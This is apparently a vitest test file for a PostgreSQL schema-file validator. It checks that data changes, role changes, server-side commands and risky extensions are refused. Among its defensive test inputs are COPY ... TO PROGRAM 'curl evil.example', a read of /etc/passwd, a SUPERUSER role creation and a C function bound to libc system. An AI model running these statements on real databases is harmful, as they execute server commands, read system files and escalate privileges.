import { describe, expect, it } from 'vitest';
import { BadInputError } from '../../../src/errors.js';
import { ALLOWED_EXTENSIONS } from '../../../src/schema/load/statement-rules.js';
import { checkSchemaFiles } from '../../../src/schema/load/load-desired-schema.js';
import { rejection, tempSchemaFile } from './temp-schema.js';

const prelude = "CREATE TABLE t (id int PRIMARY KEY);\nCREATE TYPE e AS ENUM ('a');\n";

const refused: [sql: string, what: string, reason: string][] = [
  ['INSERT INTO t VALUES (1);', 'INSERT', 'data changes belong in a data migration'],
  ['UPDATE t SET id = 2;', 'UPDATE', 'data changes'],
  ['DELETE FROM t;', 'DELETE', 'data changes'],
  ["COPY t FROM '/etc/passwd';", 'COPY', 'data changes'],
  ["COPY t TO PROGRAM 'curl evil.example';", 'COPY … PROGRAM', 'runs a command on the database server'],
  ['DO $$ BEGIN PERFORM pg_sleep(1); END $$;', 'DO', 'runs code and declares nothing'],
  ["ALTER SYSTEM SET shared_buffers = '1GB';", 'ALTER SYSTEM', 'configuration of the whole server'],
  ['CREATE ROLE intruder SUPERUSER;', 'CREATE ROLE', 'roles belong to the whole server'],
  ['CREATE USER intruder;', 'CREATE USER', 'roles belong to the whole server'],
  ['SET ROLE postgres;', 'SET ROLE', 'change the role the statements run as'],
  ['SET SESSION AUTHORIZATION postgres;', 'SET SESSION AUTHORIZATION', 'change the role'],
  ['SET search_path TO other;', 'SET search_path', 'the search_path may name only schema public'],
  ["SET work_mem = '1GB';", 'SET work_mem', 'session settings are not part of a schema'],
  ['SET standard_conforming_strings = off;', 'SET standard_conforming_strings', 'backslashes in strings would mean something else'],
  ["SET default_tablespace = 'fast';", 'SET default_tablespace', 'tablespaces are specific to one server'],
  ["SELECT pg_catalog.set_config('search_path', 'other', false);", 'SELECT', 'other would resolve names outside it'],
  ["SELECT pg_catalog.set_config('work_mem', '1GB', false);", 'SELECT', "only pg_dump's set_config('search_path', …) is accepted"],
  ["CREATE FUNCTION py() RETURNS int LANGUAGE plpython3u AS 'import os';", 'CREATE FUNCTION in LANGUAGE plpython3u', 'plpython3u is an untrusted language'],
  ["CREATE FUNCTION cf() RETURNS int LANGUAGE c AS 'libc', 'system';", 'CREATE FUNCTION in LANGUAGE c', 'run code inside the server'],
  ['CREATE EXTENSION plperlu;', 'CREATE EXTENSION', "extension plperlu is not on schemafleet's list"],
  ['CREATE EXTENSION pgcrypto SCHEMA other;', 'CREATE EXTENSION', 'would be installed in schema other'],
  ['DROP TABLE t;', 'DROP TABLE', 'to remove an object, delete the statement that creates it'],
  ['ALTER TABLE t DROP COLUMN id;', 'ALTER TABLE', 'to remove an object'],
  ['GRANT SELECT (id) ON t TO PUBLIC;', 'GRANT', 'column privileges: schemafleet does not manage this yet'],
  ['GRANT USAGE ON SCHEMA public TO PUBLIC;', 'GRANT', 'privileges on schemas: schemafleet does not manage this yet'],
  ['REVOKE ALL ON DATABASE postgres FROM PUBLIC;', 'REVOKE', 'privileges on databases: schemafleet does not manage this yet'],
  ['GRANT SELECT ON ALL TABLES IN SCHEMA other TO PUBLIC;', 'GRANT', 'schema other is not the schema the file describes'],
  ['GRANT SELECT ON other.t TO PUBLIC;', 'GRANT', 'object other.t is in schema other'],
  ['GRANT SELECT ON t TO CURRENT_USER;', 'GRANT', 'name the role the privileges are for'],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC;', 'ALTER DEFAULT PRIVILEGES', 'default privileges are not managed by schemafleet yet'],
  ['ALTER TABLE t OWNER TO postgres, ADD COLUMN z int;', 'ALTER TABLE', 'OWNER TO must be a statement of its own'],
  ['ALTER DATABASE postgres OWNER TO postgres;', 'ALTER DATABASE … OWNER TO', 'this object is not part of a schema'],
  ['CREATE TABLE other.t2 (a int);', 'CREATE TABLE', 'table other.t2 is in schema other, but the schema file describes schema public'],
  ['CREATE INDEX i ON other.t (id);', 'CREATE INDEX', 'index other.i is in schema other'],
  ["CREATE FUNCTION other.f() RETURNS int LANGUAGE sql AS 'select 1';", 'CREATE FUNCTION in LANGUAGE sql', 'routine other.f is in schema other'],
  ['CREATE SCHEMA other;', 'CREATE SCHEMA', 'schema other cannot be declared'],
  ['CREATE TABLE copy AS SELECT * FROM t;', 'CREATE TABLE AS', 'copies data'],
  ['SELECT pg_sleep(10);', 'SELECT', 'declares nothing'],
  ["LOAD 'auto_explain';", 'LOAD', 'loads a shared library'],
  ['CREATE LANGUAGE plperlu HANDLER plperl_call_handler;', 'CREATE LANGUAGE', "installed by the server's administrator"],
  // PostgreSQL's grammar turns CREATE LANGUAGE without a handler into CREATE EXTENSION.
  ['CREATE TRUSTED LANGUAGE plperlu;', 'CREATE EXTENSION', "extension plperlu is not on schemafleet's list"],
  ['BEGIN;', 'BEGIN', 'transaction control'],
  ['COMMIT;', 'COMMIT', 'transaction control'],
  ['VACUUM t;', 'VACUUM', 'maintenance command'],
  ['CHECKPOINT;', 'CHECKPOINT', 'maintenance command'],
  ['CALL p();', 'CALL', 'runs code'],
  ['CREATE TEMP TABLE tt (a int);', 'CREATE TABLE', 'temporary objects'],
  ['ALTER TABLE t RENAME TO t3;', 'ALTER … RENAME', 'write the object under its new name'],
  ['CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw;', 'CREATE SERVER', 'foreign data wrappers'],
  ['CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f();', 'CREATE EVENT TRIGGER', 'need a superuser'],
  ["COMMENT ON ROLE postgres IS 'x';", 'COMMENT ON ROLE', 'only objects of the schema'],
  ['CREATE TABLE t4 (a int) TABLESPACE pg_default;', 'CREATE TABLE', 'tablespaces are specific to one server'],
];

describe('allow-list', () => {
  it.each(refused)('refuses %s at its location', async (sql, what, reason) => {
    const file = await tempSchemaFile(`${prelude}  ${sql}\nCREATE VIEW v AS SELECT 1 AS x;\n`);
    const error = await rejection(checkSchemaFiles(file));
    expect(error).toBeInstanceOf(BadInputError);
    expect(error.location).toEqual({ file, line: 3, column: 3 });
    const [first, source, caret] = error.message.split('\n');
    expect(first).toMatch(new RegExp(`^${escape(`${file}:3:3: ${what} is not allowed in a schema file: `)}.*${escape(reason)}`));
    expect(source).toBe(`  3 |   ${sql}`);
    expect(caret).toBe('    |   ^');
  });

  it('accepts the declarations a schema is made of', async () => {
    const file = await tempSchemaFile(`
      CREATE SCHEMA IF NOT EXISTS public;
      CREATE EXTENSION IF NOT EXISTS "uuid-ossp";
      CREATE EXTENSION IF NOT EXISTS pg_trgm WITH SCHEMA public;
      CREATE TYPE mood AS ENUM ('a');
      ALTER TYPE mood ADD VALUE 'b';
      CREATE TYPE pair AS (a int, b int);
      CREATE DOMAIN pos AS int CHECK (VALUE > 0);
      ALTER DOMAIN pos SET DEFAULT 1;
      CREATE SEQUENCE s;
      ALTER SEQUENCE s INCREMENT 2;
      CREATE TABLE public.t (id int PRIMARY KEY, m mood);
      CREATE UNLOGGED TABLE u (a int);
      CREATE TABLE p (a int) PARTITION BY RANGE (a);
      CREATE TABLE p1 PARTITION OF p FOR VALUES FROM (1) TO (10);
      ALTER TABLE t ADD COLUMN b int, ALTER COLUMN b SET DEFAULT 0;
      ALTER TABLE t ENABLE ROW LEVEL SECURITY;
      ALTER TABLE t FORCE ROW LEVEL SECURITY;
      CREATE INDEX CONCURRENTLY t_b ON t (b);
      CREATE VIEW v AS SELECT * FROM pg_catalog.pg_class;
      CREATE MATERIALIZED VIEW mv AS SELECT 1 AS one;
      CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS 'begin return new; end';
      CREATE PROCEDURE pr() LANGUAGE sql BEGIN ATOMIC SELECT 1; END;
      ALTER FUNCTION f() SET search_path = public;
      CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f();
      CREATE POLICY pol ON t USING (true);
      ALTER POLICY pol ON t USING (id > 0);
      COMMENT ON TABLE t IS 'x';
      COMMENT ON SCHEMA public IS 'x';
      CREATE STATISTICS st ON id, b FROM t;
    `);
    const checked = await checkSchemaFiles(file);
    expect(checked.statements).toHaveLength(29);
    expect(checked.statements[0]?.action).toBe('skip');
    expect(checked.statements[1]?.action).toBe('apply-as-admin');
    expect(checked.statements[3]?.action).toBe('apply');
  });

  it('accepts what pg_dump --schema-only writes around the objects: \\restrict lines, session SETs, the search_path, owners', async () => {
    const file = await tempSchemaFile(
      [
        '\\restrict fLzapGuDVQaMGDFzvHGDxz0fYfBKYjKraOl7hpgn9Unc3ssVqFQxfxOpw60uctG',
        'SET statement_timeout = 0;',
        'SET transaction_timeout = 0;',
        "SET client_encoding = 'UTF8';",
        'SET standard_conforming_strings = on;',
        "SELECT pg_catalog.set_config('search_path', '', false);",
        'SET check_function_bodies = false;',
        'SET xmloption = content;',
        'SET client_min_messages = warning;',
        'SET row_security = off;',
        "SET default_tablespace = '';",
        'SET default_table_access_method = heap;',
        'CREATE SCHEMA app AUTHORIZATION someone;',
        'ALTER SCHEMA app OWNER TO someone;',
        "CREATE TYPE app.mood AS ENUM ('a');",
        'ALTER TYPE app.mood OWNER TO someone;',
        'CREATE TABLE app.t (id integer NOT NULL);',
        'ALTER TABLE app.t OWNER TO someone;',
        'ALTER TABLE ONLY app.t ADD CONSTRAINT t_pkey PRIMARY KEY (id);',
        "COMMENT ON EXTENSION plpgsql IS 'PL/pgSQL procedural language';",
        '\\unrestrict fLzapGuDVQaMGDFzvHGDxz0fYfBKYjKraOl7hpgn9Unc3ssVqFQxfxOpw60uctG',
        '',
      ].join('\n'),
    );
    const checked = await checkSchemaFiles(file, 'app');
    const actions = checked.statements.map((s) => `${s.location.line}:${s.action}`);
    expect(actions).toEqual([
      '2:skip',
      '3:skip',
      '4:skip',
      '5:skip',
      '6:apply',
      '7:apply',
      '8:apply',
      '9:skip',
      '10:skip',
      '11:skip',
      '12:skip',
      '13:skip',
      '14:skip',
      '15:apply',
      '16:skip',
      '17:apply',
      '18:skip',
      '19:apply',
      '20:apply-as-admin',
    ]);
  });

  it('refuses any other psql meta-command by name, at its line', async () => {
    const file = await tempSchemaFile('CREATE TABLE t (a int);\n\\connect other\nCREATE TABLE u (a int);\n');
    const error = await rejection(checkSchemaFiles(file));
    expect(error.message).toMatch(new RegExp(`^${escape(`${file}:2:1: psql meta-command \\connect is not allowed in a schema file`)}`));
  });

  it('judges schema qualification against the target schema', async () => {
    const file = await tempSchemaFile('CREATE TABLE app.t (a int);\nCREATE SCHEMA IF NOT EXISTS app;\n');
    const checked = await checkSchemaFiles(file, 'app');
    expect(checked.schema).toBe('app');
    // The table is applied; creating the target schema itself is left to schemafleet.
    expect(checked.statements.map((s) => [s.nodeType, s.action])).toEqual([
      ['CreateStmt', 'apply'],
      ['CreateSchemaStmt', 'skip'],
    ]);
    expect(checked.statements[0]?.targets[0]).toEqual({ kind: 'table', schema: 'app', name: 't' });
    const error = await rejection(checkSchemaFiles(file, 'public'));
    expect(error.message).toContain('table app.t is in schema app, but the schema file describes schema public');
  });

  it('reports every refused statement at once, up to 20', async () => {
    const lines = Array.from({ length: 25 }, (_, i) => `INSERT INTO t VALUES (${i});`);
    const file = await tempSchemaFile(`${prelude}${lines.join('\n')}\nDROP TABLE t;\n`);
    const error = await rejection(checkSchemaFiles(file));
    const headers = error.message.split('\n').filter((line) => line.startsWith(file));
    expect(headers).toHaveLength(20);
    expect(headers[0]).toMatch(`${file}:3:1: INSERT is not allowed`);
    expect(headers[19]).toMatch(`${file}:22:1: INSERT is not allowed`);
    expect(error.message).toMatch(/… and 6 more$/);
    expect(error.hint).toContain('tables, indexes');
  });

  it('reports refusals and syntax errors of several files together', async () => {
    const { tempSchema } = await import('./temp-schema.js');
    const dir = await tempSchema({ 'a.sql': 'GRANT ALL ON SCHEMA public TO x;', 'b.sql': 'CREATE TABEL x ();' });
    const error = await rejection(checkSchemaFiles(dir));
    expect(error.message).toContain(`${dir}/a.sql:1:1: GRANT is not allowed`);
    expect(error.message).toContain(`${dir}/b.sql:1:8: syntax error at or near "TABEL"`);
  });

  it('keeps the extension list to contrib extensions without server access', () => {
    for (const risky of ['plperlu', 'plpython3u', 'dblink', 'postgres_fdw', 'file_fdw', 'adminpack', 'pg_stat_statements', 'pgstattuple']) {
      expect(ALLOWED_EXTENSIONS).not.toContain(risky);
    }
  });
});

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
